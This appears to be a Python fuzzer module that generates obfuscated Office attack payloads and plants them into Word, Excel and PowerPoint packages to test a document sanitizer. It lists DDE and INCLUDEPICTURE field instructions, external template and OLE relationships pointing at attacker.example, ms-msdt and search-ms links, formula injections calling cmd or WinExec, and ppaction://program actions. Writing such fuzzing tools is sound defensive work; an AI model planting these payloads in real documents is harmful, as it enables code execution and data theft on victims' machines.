"""A small grammar of Office attacks for the fuzzer: each call spells one attack a new way
(keyword case, runs it is split over, character references, schemes and their spellings) and
plants it where the part still parses, so mutants reach the rebuild instead of the XML parser.
"""

from __future__ import annotations

import html
import io
import random
import zipfile

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
FIELD_KEYWORDS = ("DDE", "DDEAUTO", "INCLUDETEXT", "INCLUDEPICTURE", "LINK", "IMPORT", "HYPERLINK", "MACROBUTTON")
TARGETS = (
    "c:\\\\windows\\\\system32\\\\cmd.exe",
    "\\\\\\\\attacker.example\\\\s\\\\x.docx",
    "file:///C:/x.exe",
    "ms-msdt:/id PCWDiagnostic",
    "search-ms:query=x",
    "//attacker.example/s/x.exe",
    "mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html",
    "javascript:alert(1)",
    "mailto:a@b.example?attach=C:\\\\secret.txt",
)
FORMULAS = (
    "cmd|' /C calc'!A0",
    "cmd&#124;' /C calc'!A0",
    "MSEXCEL&#x7C;'\\..\\cmd.exe /c calc'!''",
    "WEBSERVICE(\"http://attacker.example/\")",
    "_xlfn.WEBSERVICE(\"http://attacker.example/\")",
    "CALL(\"kernel32\",\"WinExec\",\"JJ\",\"calc\",0)",
    "[1]Sheet1!A1",
    "'\\\\attacker.example\\s\\[b.xlsx]S'!A1",
    "HYPERLINK(\"file:///C:/x.exe\",\"x\")",
    "RTD(\"x.y\",,\"z\")",
)
REL_TYPES = ("attachedTemplate", "oleObject", "frame", "subDocument", "hyperlink", "image", "externalLinkPath", "package")
ACTIONS = ("ppaction://program", "PPACTION://PROGRAM", "ppaction://macro?name=A", "ppaction://ole?verb=0", "ppaction://hlinkfile")


def _case(rng: random.Random, word: str) -> str:
    return "".join(ch.upper() if rng.random() < 0.5 else ch.lower() for ch in word)


def _runs(rng: random.Random, text: str) -> str:
    """Split an instruction over several instrText runs at random places (§17.16.18)."""
    cuts = sorted(rng.sample(range(1, len(text)), k=min(len(text) - 1, rng.randint(0, 3))))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    return "".join(f'<w:r><w:instrText xml:space="preserve">{html.escape(p)}</w:instrText></w:r>' for p in pieces)


def word_field(rng: random.Random) -> str:
    instruction = f' {_case(rng, rng.choice(FIELD_KEYWORDS))} "{rng.choice(TARGETS)}" '
    if rng.random() < 0.3:
        return f'<w:p><w:fldSimple w:instr="{html.escape(instruction)}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + _runs(rng, instruction)
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def relationship(rng: random.Random) -> str:
    mode = ' TargetMode="External"' if rng.random() < 0.8 else ""
    target = html.escape(rng.choice(TARGETS))
    return f'<Relationship Id="rIdF1" Type="{REL}{rng.choice(REL_TYPES)}" Target="{target}"{mode}/>'


def word_reference(rng: random.Random) -> str:
    """An element that names relationship rIdF1, whatever type the grammar gave it."""
    return rng.choice((
        '<w:p><w:hyperlink r:id="rIdF1"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>',
        '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rIdF1" UpdateMode="Always"/>'
        "</w:object></w:r></w:p>",
        '<w:p><w:subDoc r:id="rIdF1"/></w:p>',
        '<w:altChunk r:id="rIdF1"/>',
        '<w:p><w:r><w:object><w:objectLink r:id="rIdF1" w:progId="htmlfile" w:updateMode="always"/></w:object></w:r></w:p>',
    ))


def sheet_row(rng: random.Random) -> str:
    formula = rng.choice(FORMULAS)
    prefix = rng.choice(("", "-2+3+", "@", "SUM(1)+"))
    kind = rng.choice(("", ' t="shared" ref="A90:A92" si="7"', ' t="array" ref="A90"'))
    return f'<row r="90"><c r="A90"><f{kind}>{prefix}{formula}</f><v>0</v></c></row>'


def slide_shape(rng: random.Random) -> str:
    link = rng.choice(("hlinkClick", "hlinkHover"))
    return (
        '<p:sp><p:nvSpPr><p:cNvPr id="77" name="Go">'
        f'<a:{link} r:id="{rng.choice(("", "rIdF1"))}" action="{rng.choice(ACTIONS)}"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr>'
        '<p:spPr/></p:sp>'
    )


# (member, the text the attack goes in front of, the generator that spells it)
PLANTS = (
    ("word/document.xml", b"<w:sectPr", word_field),
    ("word/document.xml", b"<w:sectPr", word_reference),
    ("word/_rels/document.xml.rels", b"</Relationships>", relationship),
    ("word/_rels/settings.xml.rels", b"</Relationships>", relationship),
    ("xl/worksheets/sheet1.xml", b"</sheetData>", sheet_row),
    ("xl/_rels/workbook.xml.rels", b"</Relationships>", relationship),
    ("ppt/slides/slide1.xml", b"</p:spTree>", slide_shape),
    ("ppt/slides/_rels/slide1.xml.rels", b"</Relationships>", relationship),
)


def plant(rng: random.Random, package: bytes) -> bytes:
    """One to three grammar-spelled attacks, each planted in a part of `package` that has a place for it."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    places = [(m, anchor, make) for m, anchor, make in PLANTS if m in members and anchor in members[m]]
    if not places:
        return package
    for _ in range(rng.randint(1, 3)):
        member, anchor, make = rng.choice(places)
        at = members[member].rindex(anchor)
        members[member] = members[member][:at] + make(rng).encode() + members[member][at:]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()
